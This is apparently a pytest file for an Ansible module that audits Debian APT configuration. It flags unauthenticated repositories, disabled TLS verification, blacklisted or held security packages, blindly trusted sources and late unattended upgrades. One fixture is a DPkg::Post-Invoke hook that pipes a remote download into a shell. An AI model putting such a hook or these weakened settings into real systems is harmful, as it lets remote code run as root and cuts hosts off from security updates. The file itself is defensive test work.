# SPDX-License-Identifier: GPL-3.0-or-later
"""What may be installed, from whom, and whether security updates still come."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from ansible_collections.echodiary.infra.plugins.module_utils._watch import apt, apt_words
from ansible_collections.echodiary.infra.plugins.module_utils._watch.apt_words import Said
from ansible_collections.echodiary.infra.plugins.module_utils._watch.shapes import Finding, Known
from hypothesis import given
from hypothesis import strategies as st

RECORDED = Path(__file__).parent / "recorded"
DUMP = (RECORDED / "apt-config.debian-13.txt").read_text()
OURS, PATH = (RECORDED / "52-echodiary.txt").read_text(), "/etc/apt/apt.conf.d/52-echodiary"
PACKAGED = {"/etc/apt/apt.conf.d/70debconf": 'DPkg::Pre-Install-Pkgs {"/usr/sbin/dpkg-preconfigure --apt || true";};\n'}
HAND = "/etc/apt/apt.conf.d/99hand"
KNOWN = Known(paths=frozenset({PATH}), files={PATH: OURS})
DAY = 86400.0


def seen(hand: str = "", dump: str = "", **more: Any) -> apt.Seen:
    files = {**PACKAGED, PATH: OURS, HAND: hand}
    more.setdefault("declared", {PATH: OURS})
    base = apt_words.parse_dump(DUMP)
    return apt.Seen(settings={**base, **apt_words.parse_dump(dump)}, files=files, packaged=frozenset(PACKAGED), now=100 * DAY, **more)


def told(found: apt.Seen, known: Known = KNOWN) -> dict[str, Finding]:
    return {str(one.resource): one for one in apt.plan(found, known)}


def test_a_quiet_host_is_quiet() -> None:
    assert told(seen()) == {}
    assert told(apt.Seen()) == {}


@pytest.mark.parametrize(
    ("hand", "dump", "resource"),
    [
        ('APT::Periodic::Unattended-Upgrade "7";', 'APT::Periodic::Unattended-Upgrade "7";', "apt:apt::periodic::unattended-upgrade"),
        (
            'Unattended-Upgrade::Package-Blacklist { "openssl"; };',
            'Unattended-Upgrade::Package-Blacklist:: "openssl";',
            "apt:unattended-upgrade::package-blacklist",
        ),
        ('APT::Get::AllowUnauthenticated "true";', 'APT::Get::AllowUnauthenticated "true";', "apt:apt::get::allowunauthenticated"),
        (
            'Acquire::https::repo.local::Verify-Peer "false";',
            'Acquire::https::repo.local::Verify-Peer "false";',
            "apt:acquire::https::repo.local::verify-peer",
        ),
        ('Acquire { AllowInsecureRepositories "1"; }', 'Acquire::AllowInsecureRepositories "1";', "apt:acquire::allowinsecurerepositories"),
        ('DPkg::Post-Invoke { "curl http://x | sh"; };', 'DPkg::Post-Invoke:: "curl http://x | sh";', "apt:dpkg::post-invoke"),
        ('APT::Update::Post-Invoke-Success { "id"; };', 'APT::Update::Post-Invoke-Success:: "id";', "apt:apt::update::post-invoke-success"),
    ],
)  # fmt: skip
def test_each_hand_is_named_with_its_file(hand: str, dump: str, resource: str) -> None:
    found = told(seen(hand, dump))
    assert list(found) == [resource]
    assert HAND in found[resource].why


def test_a_package_that_is_held_gets_no_security_updates() -> None:
    assert {name: " ".join(one.heal) for name, one in told(seen(held=("openssl",))).items()} == {"hold:openssl": "apt-mark unhold openssl"}


def test_a_source_that_is_trusted_blindly_is_told() -> None:
    assert list(told(seen(trusting={"/etc/apt/sources.list.d/x.list": "trusted=yes"}))) == ["apt:source:/etc/apt/sources.list.d/x.list"]


def test_a_configuration_that_apt_refuses_is_told() -> None:
    assert list(told(apt.Seen(refusal="E: Syntax error /etc/apt/apt.conf.d/99hand:1"))) == ["apt:configuration"]


@pytest.mark.parametrize(
    ("on", "since", "ran", "late"),
    [("1", 90, 0, True), ("1", 90, 98, False), ("1", 90, 96, True), ("1", 98, 50, False), ("0", 90, 0, False)],
)
def test_upgrades_that_do_not_come_are_told_but_not_of_a_young_host(on: str, since: float, ran: float, late: bool) -> None:
    ours = {PATH: OURS.replace('Unattended-Upgrade "0"', f'Unattended-Upgrade "{on}"')}
    found = told(seen("", f'APT::Periodic::Unattended-Upgrade "{on}";', since=since * DAY, ran=ran * DAY, declared=ours))
    assert list(found) == (["apt:unattended-upgrades"] if late else [])


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("deb [trusted=yes] http://x ./", True),
        ("deb [arch=amd64 allow-insecure=yes] http://x ./", True),
        ("Types: deb\nTrusted: yes\n", True),
        ("# deb [trusted=yes] http://x ./", False),
        ("deb [signed-by=/x] http://trusted.example ./", False),
    ],
)
def test_what_trusts_blindly(text: str, found: bool) -> None:
    assert bool(apt._TRUSTED.search(text)) is found


def test_a_file_says_what_apt_prints_of_it() -> None:
    """Our own file is all that is in force of it on the host that both were recorded on."""
    dumped = apt_words.parse_dump(DUMP)
    said = apt_words.settings(apt_words.parse(OURS))
    assert {name: dumped.get(name) for name in said} == said
    assert said["unattended-upgrade::origins-pattern::"][0].startswith("origin=Debian,codename=${distro_codename}")


def test_a_package_s_file_with_all_kinds_of_comments() -> None:
    said = apt_words.settings(apt_words.parse((RECORDED / "50unattended-upgrades.txt").read_text()))
    assert list(said) == ["unattended-upgrade::origins-pattern::"]
    assert len(said["unattended-upgrade::origins-pattern::"]) == 3


NAMES = st.lists(st.from_regex(r"[a-z][a-z-]{0,6}", fullmatch=True), min_size=1, max_size=3).map("::".join)
TEXTS = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=12)


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


@given(st.lists(st.tuples(NAMES, TEXTS, st.booleans()), max_size=6))
def test_whatever_is_written_is_read_nested_or_not(entries: list[tuple[str, str, bool]]) -> None:
    nested = [
        "".join(f"{part} {{ " for part in name.split("::")) + f"{_quoted(value)}; " + "};" * (name.count("::") + 1) if listed
        else f"{name.upper()} {_quoted(value)}; // said"
        for name, value, listed in entries
    ]  # fmt: skip
    wanted = [Said(f"{name}::" if listed else name, value) for name, value, listed in entries]
    assert apt_words.parse("\n".join(nested)) == wanted


@given(st.text(max_size=60))
def test_nothing_that_is_written_breaks_the_reader(text: str) -> None:
    apt_words.settings(apt_words.parse(text))
    apt_words.parse_dump(text)


def test_what_was_cleared_is_gone() -> None:
    assert apt_words.settings(apt_words.parse('A::B { "x"; "y"; };\n#clear A::B;\nA::B:: "z";\n')) == {"a::b::": ["z"]}
